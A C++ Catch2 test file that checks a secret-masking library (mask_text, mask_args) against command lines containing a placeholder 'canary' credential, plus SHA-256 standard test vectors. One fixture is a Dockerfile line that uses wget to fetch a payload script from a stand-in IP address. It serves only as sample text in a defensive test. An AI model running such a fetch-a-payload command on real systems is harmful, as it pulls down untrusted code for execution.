#include <catch2/catch_test_macros.hpp>
#include <catch2/generators/catch_generators.hpp>

#include "base/secrets.h"
#include "base/sha256.h"

using namespace kilnwatch::base;

TEST_CASE("A secret is masked wherever it stands") {
  const std::string text = GENERATE(
      "docker build --build-arg TOKEN=canary .", "docker build --build-arg=PASSWORD=canary .",
      "sh -c 'docker build --build-arg TOKEN=canary .'", "curl -u admin:canary http://x/",
      "curl http://admin:canary@host/path", "http://host/?token=canary&x=1",
      "mysql --password canary", "mysql --password=canary", "export API_KEY=canary",
      "docker run -e K=canary img", "curl -H 'Authorization: Bearer canary' x",
      "{\"Password\":\"canary\"}", "echo ghp_canary0123456789");
  CAPTURE(text, mask_text(text));
  CHECK(mask_text(text).find("canary") == std::string::npos);
  CHECK(mask_text(text).find("***") != std::string::npos);
  CHECK(mask_text_same_length(text).size() == text.size());
  CHECK(mask_text_same_length(text).find("canary") == std::string::npos);
}

TEST_CASE("A value in the argument after its flag is masked, the rest stays") {
  CHECK(mask_args({"docker", "build", "--build-arg", "TOKEN=canary", "-t", "a:1", "."}) ==
        std::vector<std::string>{"docker", "build", "--build-arg", "TOKEN=***", "-t", "a:1", "."});
  CHECK(mask_args({"curl", "-u", "me:canary"}) == std::vector<std::string>{"curl", "-u", "me:***"});
  CHECK(mask_args({"x", "--password", "canary"}) ==
        std::vector<std::string>{"x", "--password", "***"});
}

TEST_CASE("Text without a secret is left alone") {
  for (const char* text :
       {"RUN wget -O /p http://198.51.100.66:8080/payload.sh", "docker build -t evil:1 .",
        "FROM 203.0.113.10:5000/alpine:3", "/bin/sh -c echo hello"}) {
    CHECK(mask_text(text) == text);
  }
}

TEST_CASE("SHA-256 of the standard's examples") {
  CHECK(sha256_hex("") == "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855");
  CHECK(sha256_hex("abc") == "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad");
  CHECK(sha256_hex("abcdbcdecdefdefgefghfghighijhijkijkljklmklmnlmnomnopnopq") ==
        "248d6a61d20638b8e5c026930c3e6039a33ce45964ff2167f6ecedd419db06c1");
}
